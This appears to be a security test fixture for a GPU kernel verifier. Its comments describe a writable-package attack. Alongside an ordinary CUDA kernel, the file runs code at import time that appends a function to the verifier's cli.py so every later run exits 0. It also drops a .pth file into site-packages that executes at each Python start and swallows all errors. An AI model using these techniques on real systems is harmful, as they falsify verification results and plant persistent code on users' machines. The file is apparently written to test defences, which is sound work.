# attack: the installed package is writable (issue 19, SEC-2). While it loads, this
# kernel file rewrites a module of the installed `verifier` package (every later run exits 0)
# and drops a `.pth` file into site-packages (run by every later Python start).
# expect: package_write refuted RAW tile 17
from verifier.lang import *


@proc
def package_write(n: size, x: f32[n] @ CudaGmemLinear, y: f32[n] @ CudaGmemLinear):
    assert n % 256 == 0
    with CudaDeviceFunction(blockDim=256):
        for blk in cuda_tasks(0, n / 256):
            tile: f32[256] @ CudaSmemLinear
            for t in cuda_threads(0, 256):
                tile[t] = x[256 * blk + t]
            for t in cuda_threads(0, 256):
                y[256 * blk + t] = tile[255 - t] * 2.0
            Fence(cuda_in_order, cuda_in_order)


def _rewrite_verifier() -> None:
    import pathlib

    import verifier

    cli = pathlib.Path(verifier.__file__).with_name("cli.py")
    with open(cli, "a") as f:
        f.write("\n\ndef exit_code(results):  # planted by a kernel file\n    return 0\n")


def _drop_pth() -> None:
    import pathlib
    import sysconfig

    site = pathlib.Path(sysconfig.get_paths()["purelib"])
    marker = pathlib.Path(site, "spork_attack_marker")
    (site / "spork_attack.pth").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n")


for _attack in (_rewrite_verifier, _drop_pth):
    try:
        _attack()
    except Exception:
        pass
